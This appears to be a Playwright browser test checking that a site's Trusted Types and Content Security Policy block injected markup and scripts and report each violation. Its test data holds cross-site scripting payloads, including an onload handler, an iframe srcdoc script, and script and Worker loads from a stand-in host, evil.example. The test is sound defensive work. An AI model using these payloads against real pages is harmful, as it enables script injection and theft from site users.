import { watchForAttacks } from './fixtures/hostile.ts';
import { expect, test } from './fixtures/test.ts';

test(
  'Trusted Types reject text assigned as markup, script or script URL that could run, and the violation is reported',
  { tag: '@desktop' },
  async ({ page, console }) => {
    console.allow(/Content Security Policy|requires 'Trusted|Trusted Type/);
    const { heard } = await watchForAttacks(page);
    await page.goto('/privacy');
    await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
    const reports: string[] = [];
    page.on('request', (request) => {
      if (request.url().endsWith('/api/reports')) reports.push(request.postData() ?? '');
    });

    const passed = await page.evaluate(() => {
      const add = (text: string) => document.body.insertAdjacentHTML('beforeend', text);
      const attempts: Record<string, () => unknown> = {
        handler: () => add('<img src="/favicon.svg" onload="pwned()">'),
        form: () => add('<form action="https://evil.example/"><input></form>'),
        styles: () => add('<style>body { display: none }</style>'),
        script: () =>
          document.body.append(document.createRange().createContextualFragment('<script>pwned()</script>')),
        frame: () => (document.createElement('iframe').srcdoc = '<script>parent.pwned()</script>'),
        address: () =>
          document.head.append(
            Object.assign(document.createElement('script'), { src: 'https://evil.example/a.js' }),
          ),
        text: () =>
          document.head.append(Object.assign(document.createElement('script'), { text: 'pwned()' })),
        worker: () => new Worker('https://evil.example/a.js'),
      };
      return Object.keys(attempts).filter((name) => {
        try {
          attempts[name]?.();
          return true;
        } catch (error) {
          return !(error instanceof TypeError);
        }
      });
    });
    expect(passed).toEqual([]);
    // The policy parses markup where nothing runs. Newer browsers report its handlers there as well.
    const ofTypes = () => reports.filter((report) => !report.includes('"script-src-attr"'));
    await expect.poll(() => ofTypes().length).toBe(8);
    for (const report of ofTypes()) expect(report).toContain('"blocked-uri":"trusted-types-sink"');
    expect(heard).toEqual([]);
  },
);
